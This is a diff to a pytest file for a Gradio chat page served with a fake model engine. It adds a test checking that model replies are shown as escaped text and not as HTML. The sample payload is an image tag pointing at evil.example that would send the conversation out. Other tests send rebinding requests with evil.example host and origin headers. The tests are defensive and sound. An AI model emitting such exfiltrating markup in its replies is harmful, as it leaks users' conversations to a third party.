@@ -1,6 +1,7 @@
 """The chat page: what it shows, and what its thumbs do. A fake engine answers."""
 
 import re
+from html import escape
 
 import httpx
 import pytest
@@ -88,8 +89,23 @@ def page(bench):
 def test_the_page_itself_chats(page):
     """Through Gradio's own client: the page is served on this machine, and its text box answers."""
     client = Client(page, verbose=False, analytics_enabled=False)
-    _, talk = client.predict("What is it?", [], api_name="/say")
+    _, talk = client.predict("What is it?", api_name="/say")
     assert talk[-1]["role"] == "assistant" and "Boil water with it." in str(talk[-1]["content"])
+
+
+def test_what_is_said_is_shown_as_text_and_never_as_html(page, fake, monkeypatch):
+    """Gradio writes what it gets into the page as HTML, images too: a model could make the browser
+    send the talk anywhere. The model itself reads what was really said.
+    """
+    image = "<img src='http://evil.example/?talk'>"
+    monkeypatch.setattr("serving_tools.WORDS", ["Look: ", image, " a & b"])
+    client = Client(page, verbose=False, analytics_enabled=False)
+    for _ in range(2):
+        _, talk = client.predict(f"Is {image} it?", api_name="/say")
+    asked, said = f"Is {image} it?", f"Look: {image} a & b"
+    assert [turn["content"] for turn in fake.bodies[-1]["messages"]] == [asked, said, asked]
+    shown = [turn["content"][0]["text"] for turn in talk]
+    assert shown == [escape(text) for text in (asked, said, asked, said)]
 
 
 def test_the_command_serves_this_machine_alone_with_the_gateway_s_settings(monkeypatch):
@@ -118,7 +134,7 @@ def test_a_browser_gets_the_page_and_all_that_it_needs(page):
         for path in [*needed, "/config", "/theme.css", "/gradio_api/info"]:
             assert browser.get(path, headers=own).status_code == 200, path
         assert not browser.get("/config", headers=own).json().get("analytics_enabled")
-        asked = {"data": ["Hi", [], None], "fn_index": 0, "session_hash": "me"}
+        asked = {"data": ["Hi", None], "fn_index": 0, "session_hash": "me"}
         joined = browser.post("/gradio_api/queue/join", json=asked, headers=own)
         assert joined.status_code == 200 and joined.json()["event_id"]
         said = browser.get("/gradio_api/queue/data", params={"session_hash": "me"}, headers=own)
@@ -132,7 +148,7 @@ def test_the_page_is_no_deputy_of_another_site(bench, page):
     for method, path in every:
         for headers in ({"host": "evil.example:7860"}, *FOREIGN.values()):
             assert status(page, method, path, headers) == 403, (method, path, headers)
-    asked = {"data": ["Hi", [], None], "fn_index": 0, "session_hash": "evil"}
+    asked = {"data": ["Hi", None], "fn_index": 0, "session_hash": "evil"}
     rebound = {"host": "evil.example:7860", "origin": "http://evil.example:7860"}
     for headers in (rebound, *FOREIGN.values()):
         join = f"{page}/gradio_api/queue/join"
